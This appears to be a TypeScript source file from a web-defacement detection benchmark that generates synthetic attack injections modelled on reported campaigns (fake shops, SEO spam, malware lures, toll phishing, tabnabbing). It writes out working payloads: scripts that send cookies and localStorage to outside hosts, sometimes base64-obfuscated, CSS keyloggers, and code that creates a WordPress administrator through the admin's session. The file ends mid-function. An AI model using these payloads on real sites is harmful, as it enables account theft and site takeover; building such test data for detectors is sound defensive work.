/**
 * Fresh3 defacement classes: written after round 4, by someone who does not
 * read the engines, from public descriptions of real defacements, SEO-spam
 * and skimming campaigns, scams and hijacks. Each differs from every class
 * in defacements.ts, fresh-defacements.ts and fresh2-defacements.ts (not a
 * re-wording of one) and varies its templates, languages and scripts,
 * domains and positions like them. Scored in the `fresh3` group, never
 * tuned on.
 */
import { type ChangeClass, bottom, cap, head, lang, say, scriptSpot, siteOr, top, occurrences, setAttr, shown, textRuns, trimmed } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, jsUrl, scriptTag, style } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate, swapPhone } from "./locales.js"
import type { El } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, slug, team } from "./words.js"

const fresh3 = (name: string, make: (page: Page, rng: Rng) => Change, wholePage = false): ChangeClass =>
  wholePage ? { name, kind: "defacement", group: "fresh3", make, wholePage } : { name, kind: "defacement", group: "fresh3", make }

/** The first slot after the page's contact e-mail (the contact block), else a slot near the bottom. */
const besideContact = (page: Page): number => {
  const at = occurrences(page, page.ids.email)[0]?.start
  return at === undefined ? slotAt(page.spots, "bottom") : page.spots.slots.find((s) => s > at) ?? bottom(page)
}
/** Whether `el` sits inside an element named one of `names`. */
const inside = (page: Page, el: El, names: ReadonlySet<string>): boolean => {
  for (let p = el.parent; p !== -1; p = page.spots.elements[p]!.parent) if (names.has(page.spots.elements[p]!.name)) return true
  return false
}
const inline = new Set(["a", "button", "label", "option", "select", "summary"])
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`

// Human Security's Satori team, "Phish 'n' Ships" (November 2024): more than 1,000 legitimate sites infected to show fake product listings (with product metadata for search engines) that send shoppers to fake web shops.
const fakeListings = fresh3("fake product listings leading to a fake web shop", (page, rng) => {
  const shop = pick(rng, [randomDomain(rng), `${pick(rng, ["outlet", "sale", "deals", "store", "mall"])}-${alnum(rng, 5)}.${pick(rng, ["shop", "store", "com", "top", "online"])}`])
  const items = sample(rng, ["Nike Air Max 90", "Dyson Airwrap Complete", "Canada Goose Expedition Parka", "Ray-Ban Wayfarer Classic", "Stanley Quencher 40oz", "Apple AirPods Pro 2", "LEGO Technic Porsche 911", "Birkenstock Arizona", "Pandora Moments Bracelet", "Le Creuset Casserole 24 cm", "KitchenAid Artisan Mixer", "Weber Spirit E-325", "Moncler Maya Jacket", "Ninja Foodi Dual Air Fryer"], between(rng, 3, 6))
  const money = page.site.locale.money
  const [heading, buy, note] = siteOr(rng, page, {
    en: [pick(rng, ["Clearance sale", "Warehouse clearance", "Today's deals"]), "Buy now", "Free shipping · Limited stock"],
    fr: ["Déstockage", "Acheter", "Livraison gratuite · Stock limité"], de: ["Lagerräumung", "Jetzt kaufen", "Kostenloser Versand · Nur wenige Stück"],
    es: ["Liquidación", "Comprar ahora", "Envío gratis · Stock limitado"], nl: ["Uitverkoop", "Nu kopen", "Gratis verzending · Beperkte voorraad"],
    pt: ["Queima de estoque", "Comprar agora", "Frete grátis · Estoque limitado"], it: ["Svendita totale", "Acquista ora", "Spedizione gratuita · Scorte limitate"]
  })
  const products = items.map((name) => {
    const full = between(rng, 90, 600) + 0.99
    const price = Math.round(full * pick(rng, [0.2, 0.25, 0.3, 0.35])) + 0.99
    const url = `https://${shop}/${pick(rng, ["products", "item", "p", "goods"])}/${slug(name)}-${digits(rng, 5)}`
    return { name, full, price, url, img: `https://${pick(rng, [shop, `img.${shop}`, randomDomain(rng)])}/images/${alnum(rng, 10)}.jpg` }
  })
  const card = (p: (typeof products)[number]) => `<a href="${p.url}"><img src="${p.img}" alt="${esc(p.name)}" width="${pick(rng, ["180", "200", "240"])}"> ${esc(p.name)}</a> <del>${money(p.full)}</del> <strong>${money(p.price)}</strong> <a class="button" href="${p.url}?add-to-cart=1">${buy}</a>`
  const block = pick(rng, [
    () => `<section class="${pick(rng, ["products", "deals", "shop-grid"])}"><h2>${heading}</h2><ul>${products.map((p) => `<li class="product">${card(p)}</li>`).join("")}</ul><p>${note}</p></section>`,
    () => `<div class="related-products"><h3>${heading} -${between(rng, 60, 80)}%</h3>${products.map((p) => `<div class="product-card">${card(p)}</div>`).join("")}</div>`,
    () => `<table class="deals"><caption>${heading}</caption>${products.map((p) => `<tr><td>${card(p)}</td></tr>`).join("")}</table>`
  ])()
  const out: Array<Splice> = [insert(pick(rng, [anySlot(rng, page.spots), slotAt(page.spots, "middle"), slotAt(page.spots, "top")]), block)]
  if (chance(rng, 0.4)) {
    const ld = products.map((p) => ({ "@context": "https://schema.org", "@type": "Product", name: p.name, image: p.img, offers: { "@type": "Offer", url: p.url, price: p.price.toFixed(2), availability: "https://schema.org/InStock" } }))
    out.push(insert(head(page), `<script type="application/ld+json">${JSON.stringify(ld)}</script>`))
  }
  return { splices: out }
})

const parasiteTopics = ["Online Casinos", "Essay Writing Services", "CBD Gummies", "Payday Loans With No Credit Check", "Sports Betting Sites", "Crypto Exchanges", "Weight Loss Pills", "Non-GamStop Casinos"]
const countries: Record<string, string> = { us: "the US", uk: "the UK", fr: "France", de: "Germany", es: "Spain", nl: "the Netherlands", au: "Australia", in: "India", br: "Brazil", it: "Italy" }

// Google's "site reputation abuse" spam policy (March 2024) and reports of parasite-SEO pages on hijacked university, council and news sites: the page's main content replaced by a third-party affiliate "best of" review with a ranking table, the site's header and footer kept.
const parasiteArticle = fresh3("main content replaced by a parasite-SEO affiliate review", (page, rng) => {
  const subject = pick(rng, parasiteTopics)
  const where = countries[page.site.locale.country] ?? "the US"
  const n = between(rng, 4, 10)
  const h1 = pick(rng, [`Best ${subject} in ${where} (2026): Top ${n} Ranked`, `${n} Best ${subject} in ${where} – Expert Reviews 2026`, `Top ${subject} for ${where}: Tested and Compared`])
  const tracker = pick(rng, [randomDomain(rng), `go.${randomDomain(rng)}`])
  const brands = Array.from({ length: n }, () => `${pick(rng, ["Spin", "Lucky", "Royal", "Mega", "Golden", "Prime", "Nova", "Swift", "Green", "Blue"])}${pick(rng, ["Palace", "Fortune", "Crown", "Leaf", "Bet", "Cash", "Pro", "Labs", "Hub", "Direct"])}`)
  const author = pick(rng, ["Daniel Brooks", "Emily Carter", "Mark Jensen", "Sophie Turner", "Alex Morgan"])
  const intro = pick(rng, [
    `Finding trustworthy ${subject.toLowerCase()} is harder than it looks. Our team tested ${n} providers for safety, speed and value so you don't have to.`,
    `We compared the most popular ${subject.toLowerCase()} on price, reliability and customer support. Here is our ranking for 2026.`,
    `Looking for the best ${subject.toLowerCase()}? Below you will find our independent reviews, updated every month.`
  ])
  const rows = brands.map((b, i) => `<tr><td>${i + 1}</td><td><a href="https://${tracker}/${pick(rng, ["go", "visit", "out", "recommends"])}/${slug(b)}?aff=${digits(rng, 5)}" rel="sponsored">${b}</a></td><td>${between(rng, 8, 9)}.${digits(rng, 1)}/10</td><td><a href="https://${tracker}/${slug(b)}">${pick(rng, ["Visit site", "Claim bonus", "Get offer", "Apply now"])}</a></td></tr>`).join("")
  const article = `<main class="${pick(rng, ["content", "entry-content", "article-body", "post"])}"><article><h1>${esc(h1)}</h1><p class="byline">${pick(rng, ["By", "Written by", "Reviewed by"])} ${author} · ${page.site.locale.date(someDate(rng))}</p><p>${esc(intro)}</p><table class="ranking"><tr><th>#</th><th>${pick(rng, ["Provider", "Site", "Brand"])}</th><th>${pick(rng, ["Score", "Rating"])}</th><th></th></tr>${rows}</table><h2>${pick(rng, ["How we rank", "Our methodology", "What to look for"])}</h2><p>${pick(rng, ["Every provider was scored on licensing, payout speed, fees and support.", "We look at fees, user reviews and how quickly support replies.", "Only licensed providers with fast withdrawals made our list."])}</p><p><small>${pick(rng, ["Advertiser disclosure: we may receive a commission.", "18+ | Play responsibly.", "Sponsored content."])}</small></p></article></main>`
  const s = page.spots.slots
  let start = s[Math.min(1, s.length - 1)]!
  let end = s[Math.max(0, s.length - 2)]!
  if (end <= start) {
    start = top(page)
    end = bottom(page)
  }
  const out: Array<Splice> = [replace({ start, end }, article)]
  if (page.spots.title !== null && chance(rng, 0.7)) out.push(replace(page.spots.title, esc(h1)))
  return { splices: out }
}, true)

const gootDocs: Record<Lang, ReadonlyArray<string>> = {
  en: ["tenancy agreement template", "non-disclosure agreement", "bill of sale form", "employment contract template", "prenuptial agreement sample", "partnership agreement"],
  fr: ["modèle de bail de location", "accord de confidentialité", "modèle de contrat de travail", "compromis de vente"],
  de: ["Mustervertrag Mietvertrag", "Geheimhaltungsvereinbarung Muster", "Arbeitsvertrag Vorlage", "Kaufvertrag Gebrauchtwagen"],
  es: ["modelo de contrato de alquiler", "acuerdo de confidencialidad", "contrato de trabajo plantilla", "contrato de compraventa"],
  nl: ["huurovereenkomst model", "geheimhoudingsovereenkomst", "arbeidsovereenkomst voorbeeld", "koopovereenkomst auto"],
  pt: ["modelo de contrato de aluguel", "acordo de confidencialidade", "contrato de trabalho modelo", "contrato de compra e venda"],
  it: ["modello contratto di locazione", "accordo di riservatezza", "contratto di lavoro fac simile", "contratto di compravendita"]
}
const gootWords: Record<Lang, readonly [(doc: string) => string, string, string, string]> = {
  en: [(d) => `Does anyone have a ${d} I could use?`, "Here is a direct download link:", "Thanks, that is exactly what I needed!", "Reply"],
  fr: [(d) => `Quelqu'un aurait-il un ${d} à partager ?`, "Voici le lien de téléchargement direct :", "Merci, c'est exactement ce qu'il me fallait !", "Répondre"],
  de: [(d) => `Hat jemand einen ${d}, den ich verwenden kann?`, "Hier ist der direkte Download-Link:", "Danke, genau das habe ich gesucht!", "Antworten"],
  es: [(d) => `¿Alguien tiene un ${d} que pueda usar?`, "Aquí tiene el enlace de descarga directa:", "¡Gracias, justo lo que necesitaba!", "Responder"],
  nl: [(d) => `Heeft iemand een ${d} dat ik kan gebruiken?`, "Hier is de directe downloadlink:", "Bedankt, precies wat ik zocht!", "Reageren"],
  pt: [(d) => `Alguém tem um ${d} que eu possa usar?`, "Aqui está o link de download direto:", "Obrigado, era exatamente isso!", "Responder"],
  it: [(d) => `Qualcuno ha un ${d} da condividere?`, "Ecco il link per il download diretto:", "Grazie, era proprio quello che cercavo!", "Rispondi"]
}

// Sophos (March 2021) on Gootloader: hacked WordPress sites show a fake message-board thread in which a visitor asks for a legal document template and a "moderator" posts a direct download link (a .zip holding a JScript file), placed so it matches the visitor's search.
const gootloaderForum = fresh3("fake forum thread offering a document download", (page, rng) => {
  const l = chance(rng, 0.8) ? lang(page) : "en"
  const doc = pick(rng, gootDocs[l])
  const [ask, here, thanks, reply] = gootWords[l]
  const file = `${slug(doc).replace(/-/g, "_")}${pick(rng, ["", "_" + digits(rng, 4), "_free"])}.zip`
  const href = pick(rng, [
    `https://${page.site.host}/${pick(rng, ["?", "index.php?"])}${alnum(rng, 6)}=${alnum(rng, 10)}&amp;file=${file}`,
    `/${pick(rng, ["wp-content/uploads", "forum/attachments", "download"])}/${file}`,
    `https://${randomDomain(rng)}/${pick(rng, ["dl", "files", "doc"])}/${file}`
  ])
  const who = () => pick(rng, ["Mary_Hudson", "jbrandt", "Sergio.M", "admin", "Moderator", "Kevin_88", "lucie.d", "PeterV"])
  const when = () => page.site.locale.date(someDate(rng))
  const post = (author: string, body: string) => `<div class="${pick(rng, ["post", "forum-post", "message"])}"><div class="author"><b>${esc(author)}</b> · <span>${when()}</span></div><div class="body">${body}</div></div>`
  const thread = `<div class="${pick(rng, ["forum", "topic", "bbp-topic", "thread"])}"><h2>${esc(cap(doc))}</h2>${post(who(), `<p>${esc(ask(doc))}</p>`)}${post(pick(rng, ["admin", "Moderator", "Support"]), `<p>${here} <a href="${href}">${esc(file)}</a></p>`)}${chance(rng, 0.6) ? post(who(), `<p>${thanks}</p>`) : ""}<p><a href="#">${reply}</a></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), thread))
})

const garbleGlyphs = ["Ã", "Â", "¿", "½", "Ð", "Ñ", "�", "□", "¤", "Ø", "þ", "ß", "µ", "ð", "ª", "º", "¦", "§", "Æ", "¥"]
const fontWords: Record<Lang, readonly [(font: string) => string, (font: string, pack: string) => string, string]> = {
  en: [(f) => `The "${f}" font wasn't found.`, (f, p) => `The web page you are trying to load is displayed incorrectly, as it uses the "${f}" font. To fix the error and display the text, you have to update the "${p}".`, "Update"],
  fr: [(f) => `La police « ${f} » est introuvable.`, (f, p) => `La page que vous consultez s'affiche mal car elle utilise la police « ${f} ». Pour afficher le texte, installez la mise à jour « ${p} ».`, "Mettre à jour"],
  de: [(f) => `Die Schriftart „${f}“ wurde nicht gefunden.`, (f, p) => `Die Seite wird falsch angezeigt, da sie die Schriftart „${f}“ verwendet. Um den Text anzuzeigen, aktualisieren Sie das „${p}“.`, "Aktualisieren"],
  es: [(f) => `No se encontró la fuente "${f}".`, (f, p) => `La página se muestra de forma incorrecta porque usa la fuente "${f}". Para ver el texto, actualice el "${p}".`, "Actualizar"],
  nl: [(f) => `Het lettertype "${f}" is niet gevonden.`, (f, p) => `De pagina wordt verkeerd weergegeven omdat deze het lettertype "${f}" gebruikt. Werk het "${p}" bij om de tekst te tonen.`, "Bijwerken"],
  pt: [(f) => `A fonte "${f}" não foi encontrada.`, (f, p) => `A página está sendo exibida incorretamente porque usa a fonte "${f}". Para ver o texto, atualize o "${p}".`, "Atualizar"],
  it: [(f) => `Il carattere "${f}" non è stato trovato.`, (f, p) => `La pagina viene visualizzata in modo errato perché usa il carattere "${f}". Per vedere il testo aggiorna il "${p}".`, "Aggiorna"]
}

// Proofpoint and Palo Alto Networks (2017) on the EITest "HoeflerText" lure: an injected script turns the page's text into unreadable symbols and claims a font is missing, offering a "Chrome Font Pack" update that is malware.
const fontGarble = fresh3("text garbled with a 'font wasn't found' update prompt", (page, rng) => {
  const runs = textRuns(page, 4)
  const chosen = sample(rng, runs, Math.max(1, Math.ceil(runs.length * (0.4 + 0.5 * rng()))))
  const garble = (s: string) => [...s].map((c) => (/\s/.test(c) ? c : pick(rng, garbleGlyphs))).join("")
  const out: Array<Splice> = chosen.map((t) => replace(trimmed(page, t), esc(garble(t.text.trim()))))
  const font = pick(rng, ["HoeflerText", "Arial Unicode MS", "Segoe UI Historic", "Helvetica Neue Pro"])
  const browser = pick(rng, ["Chrome", "Firefox", "Edge"])
  const pack = `${browser} Font Pack`
  const [h, p, b] = siteOr(rng, page, fontWords)
  const file = pick(rng, [`${browser}_Font.exe`, `${browser.toLowerCase()}_font_pack.exe`, "Font_Chrome.exe", `${browser}_Font_v${between(rng, 50, 130)}.zip`, `FontPack.${pick(rng, ["exe", "js", "hta"])}`])
  const url = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["", "download/", "upd/"])}${file}`
  const box = `<div style="position:fixed;top:${between(rng, 10, 30)}%;left:50%;transform:translateX(-50%);width:${between(rng, 420, 560)}px;background:#fff;border:1px solid #ccc;box-shadow:0 0 20px rgba(0,0,0,.4);z-index:${between(rng, 9999, 2147483647)};padding:18px;font-family:Arial,sans-serif"><h3>${esc(h(font))}</h3><p>${esc(p(font, pack))}</p><p><small>${pick(rng, ["Manufacturer", "Publisher"])}: ${browser === "Chrome" ? "Google Inc." : browser === "Edge" ? "Microsoft" : "Mozilla"} · ${pick(rng, ["Current version", "Version"])}: ${between(rng, 50, 130)}.0.${between(rng, 1000, 6000)}.${between(rng, 10, 200)}</small></p><a href="${url}" style="background:#4285f4;color:#fff;padding:8px 24px">${b}</a></div>`
  out.push(insert(pick(rng, [top(page), bottom(page)]), box))
  return { splices: out }
})

const menuSpam: Record<Lang, ReadonlyArray<string>> = {
  en: ["Online Casino", "Best Betting Sites", "Buy Essays Online", "Payday Loans", "Cheap Cialis", "Non GamStop Casinos", "Slot Gacor"],
  fr: ["Casino en ligne", "Paris sportifs", "Meilleur casino 2026", "Crédit rapide"], de: ["Online Casino", "Sportwetten", "Casino ohne OASIS", "Kredit ohne Schufa"],
  es: ["Casino online", "Apuestas deportivas", "Préstamos rápidos", "Casino sin licencia"], nl: ["Online casino", "Casino zonder CRUKS", "Sportweddenschappen", "Snel lenen"],
  pt: ["Cassino online", "Apostas esportivas", "Bet com bônus", "Empréstimo rápido"], it: ["Casinò online", "Scommesse sportive", "Casinò non AAMS", "Prestiti veloci"]
}
const navNames = new Set(["nav", "header"])

// Casino, essay and loan links injected into WordPress and Joomla menus on hacked sites (SEO-spam clean-ups reported by Sucuri and Wordfence, 2019–2025): one or two entries added to the site's own navigation, styled like its other entries.
const navMenuSpam = fresh3("spam entries added to the site's navigation menu", (page, rng) => {
  const els = page.spots.elements
  const lists = els.filter((e) => (e.name === "ul" || e.name === "ol") && e.shown && e.closeTag !== null && els.some((c) => c.parent === e.index && c.name === "li"))
  const navish = lists.filter((e) => /menu|nav/i.test(`${e.attribs.class ?? ""} ${e.attribs.id ?? ""}`) || inside(page, e, navNames))
  const labels = sample(rng, siteOr(rng, page, menuSpam), between(rng, 1, 2))
  const dom = randomDomain(rng)
  const link = (l: string) => `<a href="https://${pick(rng, [dom, randomDomain(rng)])}/${pick(rng, ["", slug(l) + "/", "?ref=" + page.site.brand])}">${esc(l)}</a>`
  const target = navish.length > 0 ? pick(rng, navish) : lists.length > 0 ? pick(rng, lists) : undefined
  if (target !== undefined) {
    const li = els.find((c) => c.parent === target.index && c.name === "li")
    const cls = li?.attribs.class === undefined ? "" : ` class="${esc(li.attribs.class)}"`
    const items = labels.map((l) => `<li${cls}>${link(l)}</li>`).join("")
    return splices(insert(chance(rng, 0.7) ? target.closeTag!.start : target.openEnd, items))
  }
  const nav = els.find((e) => e.name === "nav" && e.shown && e.closeTag !== null)
  if (nav !== undefined) return splices(insert(nav.closeTag!.start, " " + labels.map(link).join(" ")))
  return splices(insert(slotAt(page.spots, "top"), `<ul class="menu">${labels.map((l) => `<li>${link(l)}</li>`).join("")}</ul>`))
})

// CSS-only keyloggers (Max Chehab's "CSS Keylogger", 2018; CSS data-exfiltration research by Gareth Heyes and Mike Gualtieri): attribute selectors or unicode-range fonts make the browser fetch a URL on another host for each character typed into a field.
const cssKeylogger = fresh3("CSS keylogger loading a URL per typed character", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const field = pick(rng, ['input[type="password"]', 'input[type="email"]', 'input[name*="card"]', "input", 'input[type="text"]'])
  const chars = sample(rng, [..."abcdefghijklmnopqrstuvwxyz0123456789"], between(rng, 16, 36))
  const path = pick(rng, ["k", "log", "c", "px", "s.gif", "t"])
  const css = pick(rng, [
    () => chars.map((c) => `${field}[value$="${c}"]{background-image:url("https://${host}/${path}?c=${c}")}`).join(""),
    () => chars.map((c) => `${field}[value*="${c}"]~*{background:url(//${host}/${path}/${c})}`).join(""),
    () => chars.map((c, i) => `@font-face{font-family:k${i};src:url(https://${host}/${path}?c=${c});unicode-range:U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}}`).join("") + `${field}{font-family:${chars.map((_, i) => `k${i}`).join(",")}}`
  ])()
  const sync = chance(rng, 0.6) ? `<script>document.addEventListener("input",function(e){if(e.target&&e.target.setAttribute)e.target.setAttribute("value",e.target.value)},true)</script>` : ""
  return splices(insert(pick(rng, [head(page), head(page), top(page), bottom(page)]), style(rng, css) + sync))
})

// Wordfence reports on stored-XSS campaigns against WordPress plugins (2023–2024): the injected script sends the visitor's cookies, and sometimes localStorage, to the attacker's host.
const cookieTheft = fresh3("session cookies and storage sent to another host", (page, rng) => {
  const url = jsUrl(rng, `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["c.php", "log", "collect", "i.gif", "api/s", alnum(rng, 5)])}`)
  const code = pick(rng, [
    `new Image().src=${url}+"?c="+encodeURIComponent(document.cookie)+"&u="+encodeURIComponent(location.href);`,
    `fetch(${url},{method:"POST",mode:"no-cors",body:JSON.stringify({c:document.cookie,l:JSON.stringify(localStorage),r:location.href})});`,
    `navigator.sendBeacon(${url},document.cookie+"|"+Object.keys(localStorage).map(function(k){return k+"="+localStorage.getItem(k)}).join("&"));`,
    `setTimeout(function(){var i=document.createElement("img");i.width=1;i.height=1;i.src=${url}+"?"+btoa(document.cookie);document.body.appendChild(i)},${between(rng, 200, 4000)});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Wordfence (May 2024, LiteSpeed Cache CVE-2023-40000) and WPScan reports of stored-XSS payloads that, when an administrator views the page, create a new administrator account (such as "wpsupp-user") through the admin's own session.
const rogueAdmin = fresh3("script creating an administrator account when an admin visits", (page, rng) => {
  const user = pick(rng, ["wpsupp-user", "wp-blog-admin", "adminbackup", `sysadmin${digits(rng, 2)}`, `wpadmin_${alnum(rng, 4)}`, "support_team"])
  const mail = `${user.replace(/[^a-z0-9]/g, "")}@${pick(rng, ["gmail.com", "proton.me", randomDomain(rng)])}`
  const pass = alnum(rng, 14)
  const body = `"action=createuser&_wpnonce_create-user="+n[1]+"&user_login=${user}&email=${mail}&pass1=${pass}&pass2=${pass}&role=administrator"`
  const code = pick(rng, [
    `(function(){var x=new XMLHttpRequest();x.open("GET","/wp-admin/user-new.php",true);x.onload=function(){var n=/name="_wpnonce_create-user" value="([^"]+)"/.exec(x.responseText);if(!n)return;var p=new XMLHttpRequest();p.open("POST","/wp-admin/user-new.php",true);p.setRequestHeader("Content-Type","application/x-www-form-urlencoded");p.send(${body})};x.send()})();`,
    `if(document.cookie.indexOf("wordpress_logged_in")>-1){fetch("/wp-admin/user-new.php").then(function(r){return r.text()}).then(function(t){var n=t.match(/_wpnonce_create-user" value="(\\w+)"/);if(n)fetch("/wp-admin/user-new.php",{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:${body}})})}`,
    `if(/wordpress_logged_in|wp-settings/.test(document.cookie)){var s=document.createElement("script");s.src=${jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["wp.js", "u.js", "admin.js"])}?u=${user}`)};document.head.appendChild(s)}`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const creeds: ReadonlyArray<{ readonly text: string; readonly plea: string }> = [
  { text: "لا إله إلا الله محمد رسول الله", plea: "Respect the Prophet ﷺ. Stop insulting Islam." },
  { text: "إِنَّ اللَّهَ مَعَ الصَّابِرِينَ", plea: "To the government: your silence is a crime." },
  { text: "وَمَا النَّصْرُ إِلَّا مِنْ عِندِ اللَّهِ", plea: "We defend our faith and our brothers." },
  { text: "Respectez le Prophète ﷺ.", plea: "Arrêtez d'insulter l'islam. Boycott!" },
  { text: "Jangan sentuh Nabi kami!", plea: "#OpsPatuk — Hormati agama kami." },
  { text: "Allahu Akbar! Bela Nabi Muhammad ﷺ", plea: "Umat Islam tidak akan diam." },
  { text: "Peygamberimize uzanan diller kopsun!", plea: "İslam'a hakaret edenlere sessiz kalmayacağız." },
  { text: "Repent, for the kingdom of heaven is at hand. (Matthew 4:17)", plea: "Turn away from sin before it is too late." },
  { text: "ہمارے نبی ﷺ کی شان میں گستاخی برداشت نہیں", plea: "Stop blasphemy now." },
  { text: "اللهم انصر إخواننا المستضعفين", plea: "Wake up, Ummah." }
]

// Religiously motivated defacements (DragonForce Malaysia's #OpsPatuk against Indian sites, June 2022; the #OpFrance wave after the cartoon controversy, October 2020; pro-ISIL defacements in the FBI's April 2015 PSA; Zone-H's "religious" motive): a creed or scripture verse with a plea or warning, signed by a group, without "hacked by".
const religiousMessage = fresh3("religious message with a scripture verse", (page, rng) => {
  const c = pick(rng, creeds)
  const group = team(rng)
  const ink = pick(rng, ["#fff", "#0f0", "#ffd700", "#fff"])
  const bg = pick(rng, ["#000", "#063", "#111", "#0b3d0b"])
  const el = pick(rng, [
    () => `<div style="background:${bg};color:${ink};text-align:center;padding:${between(rng, 30, 120)}px 10px"><h1 style="font-size:${between(rng, 32, 64)}px">${esc(c.text)}</h1><p>${esc(c.plea)}</p><p><small>${esc(group)}</small></p></div>`,
    () => `<div style="position:fixed;inset:0;background:${bg};color:${ink};z-index:${between(rng, 9999, 2147483647)};display:flex;flex-direction:column;align-items:center;justify-content:center;text-align:center"><h1>${esc(c.text)}</h1><h3>${esc(c.plea)}</h3><p>${esc(group)} · ${new Date(Date.UTC(2026, between(rng, 0, 11), between(rng, 1, 28))).toISOString().slice(0, 10)}</p></div>`,
    () => `<center><font size="${between(rng, 5, 7)}" color="${ink === "#fff" ? "green" : ink}">${esc(c.text)}</font><br><b>${esc(c.plea)}</b><br><i>— ${esc(group)}</i></center>`
  ])()
  const out: Array<Splice> = [insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), el)]
  if (page.spots.title !== null && chance(rng, 0.25)) out.push(replace(page.spots.title, esc(c.text)))
  return { splices: out }
})

const tollAgencies: Record<string, ReadonlyArray<string>> = {
  us: ["E-ZPass", "SunPass", "FasTrak", "The Toll Roads", "TxTag"], uk: ["Dart Charge", "Penalty Charge Notice"], fr: ["ANTAI", "Ulys"], de: ["Toll Collect", "Bußgeldstelle"],
  es: ["DGT", "Vía-T"], nl: ["CJIB", "Tolweg"], au: ["Linkt", "E-Toll"], in: ["FASTag", "e-Challan"], br: ["Detran", "Sem Parar"], it: ["Telepass", "Autostrade per l'Italia"]
}
const tollWords: Record<Lang, readonly [string, (agency: string, amount: string, date: string) => string, string]> = {
  en: ["Unpaid toll notice", (a, m, d) => `${a}: our records show an outstanding balance of ${m} for your vehicle. Pay before ${d} to avoid a late fee and further action.`, "Pay now"],
  fr: ["Avis de paiement en attente", (a, m, d) => `${a} : une somme de ${m} reste impayée pour votre véhicule. Réglez avant le ${d} pour éviter une majoration.`, "Payer maintenant"],
  de: ["Offene Zahlung", (a, m, d) => `${a}: Für Ihr Fahrzeug ist ein Betrag von ${m} offen. Bitte zahlen Sie bis zum ${d}, um Mahngebühren zu vermeiden.`, "Jetzt bezahlen"],
  es: ["Aviso de pago pendiente", (a, m, d) => `${a}: consta un importe pendiente de ${m} para su vehículo. Pague antes del ${d} para evitar recargos.`, "Pagar ahora"],
  nl: ["Openstaande betaling", (a, m, d) => `${a}: er staat een bedrag van ${m} open voor uw voertuig. Betaal vóór ${d} om extra kosten te voorkomen.`, "Nu betalen"],
  pt: ["Aviso de débito pendente", (a, m, d) => `${a}: consta um débito de ${m} para o seu veículo. Pague até ${d} para evitar multa e juros.`, "Pagar agora"],
  it: ["Avviso di pagamento", (a, m, d) => `${a}: risulta un importo non pagato di ${m} per il suo veicolo. Paghi entro il ${d} per evitare la maggiorazione.`, "Paga ora"]
}

// The FBI IC3 PSA on unpaid-toll smishing (April 2024) and the "Smishing Triad" toll and traffic-fine lures (Resecurity and others, 2024–2025): a notice of an unpaid toll or fine from the country's toll or traffic agency, linking to a payment page on a look-alike domain.
const tollFine = fresh3("'unpaid toll or fine' payment notice", (page, rng) => {
  const agency = pick(rng, tollAgencies[page.site.locale.country] ?? tollAgencies.us!)
  const amount = page.site.locale.money(between(rng, 3, 90) + pick(rng, [0.5, 0.99, 0.75, 0.35]))
  const due = page.site.locale.date(new Date(Date.UTC(2026, between(rng, 0, 11), between(rng, 1, 28))))
  const [h, p, b] = say(page, tollWords)
  const host = `${slug(agency)}${pick(rng, ["-pay", "-payments", "-portal", "-service", "-toll", "online"])}.${pick(rng, ["com", "info", "top", "xyz", "cc", "vip", "icu", "org"])}`
  const url = `https://${pick(rng, [host, `www.${host}`])}/${pick(rng, ["pay", "invoice", "portal", "m"])}?${pick(rng, ["id", "ref", "case"])}=${alnum(rng, 10)}`
  const el = pick(rng, [
    `<div class="${pick(rng, ["notice", "alert-bar", "payment-notice"])}" style="background:#fff3cd;border-bottom:2px solid #d39e00;padding:10px;text-align:center"><strong>${h}:</strong> ${esc(p(agency, amount, due))} <a href="${url}">${b} →</a></div>`,
    `<section class="alert" role="alert"><h3>⚠ ${h}</h3><p>${esc(p(agency, amount, due))}</p><p><a class="button" href="${url}">${b}</a></p></section>`,
    `<p><b>${h}</b> — ${esc(p(agency, amount, due))} <a href="${url}" target="_blank">${b}</a></p>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top"), besideContact(page)]), el))
})

// Aza Raskin's "tabnabbing" (2010) and the reverse-tabnabbing phishing it inspired: when the visitor switches to another tab, the page rewrites its title and favicon to look like a webmail or bank sign-in and loads a phishing page in place.
const tabnabbing = fresh3("tab title and favicon switched when the visitor looks away", (page, rng) => {
  const [title, icon] = pick(rng, [
    ["Gmail: Email from Google", "https://ssl.gstatic.com/ui/v1/icons/mail/rfr/gmail.ico"],
    ["Sign in to your account", "https://login.microsoftonline.com/favicon.ico"],
    ["Log in to Facebook", "https://static.xx.fbcdn.net/rsrc.php/yo/r/iRmz9lCMBD2.ico"],
    ["PayPal: Log in", "https://www.paypalobjects.com/webstatic/icon/pp32.png"],
    ["Online Banking – Sign in", `https://${randomDomain(rng)}/favicon.ico`]
  ] as const)
  const phish = jsUrl(rng, `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["login", "signin", "auth", "mail"])}?r=${alnum(rng, 8)}`)
  const swap = `document.title=${JSON.stringify(title)};var l=document.querySelector("link[rel~='icon']")||document.createElement("link");l.rel="icon";l.href=${JSON.stringify(icon)};document.head.appendChild(l);setTimeout(function(){location.replace(${phish})},${between(rng, 500, 8000)});`
  const code = pick(rng, [
    `document.addEventListener("visibilitychange",function(){if(document.hidden){${swap}}});`,
    `window.onblur=function(){setTimeout(function(){${swap}},${between(rng, 2000, 20000)})};`,
